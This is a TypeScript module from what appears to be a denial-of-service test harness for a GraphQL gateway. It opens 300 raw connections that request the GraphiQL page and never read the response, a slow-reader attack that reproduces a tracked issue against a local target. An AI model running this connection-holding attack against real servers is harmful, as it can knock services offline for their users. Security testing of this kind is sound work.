import { request } from 'undici';
import type { Attack } from './attack.js';
import { holdSockets } from './raw-sockets.js';
import { describe } from './slow-body.js';

const READERS = 300;

/**
 * Issue 11 (2): anonymous `GET /graphql` with `Accept: text/html` (the GraphiQL page) on
 * 300 connections that never read their socket. Against the gateway without keys, where
 * GraphiQL is on by default.
 */
export const graphiqlReaders: Attack = {
  key: 'graphiql',
  title: `(2) ${READERS} GraphiQL readers that never read`,
  gateway: 'open',
  async start(target) {
    const page = await pageSize(target.url);
    const readers = holdSockets(target.url, READERS, (socket) => {
      socket.write('GET /graphql HTTP/1.1\r\nHost: 127.0.0.1\r\nAccept: text/html\r\n\r\n');
    }, { read: false });
    return {
      async stop() {
        readers.stop();
        return `page ${page}; ${describe(readers.stats)}`;
      },
    };
  },
};

/** The page as the attacker gets it (no compression asked), read in full once before the attack. */
async function pageSize(url: string): Promise<string> {
  const response = await request(`${url}/graphql`, { headers: { accept: 'text/html' } });
  const bytes = (await response.body.arrayBuffer()).byteLength;
  return `${response.statusCode} ${(bytes / 1024).toFixed(0)} KB`;
}
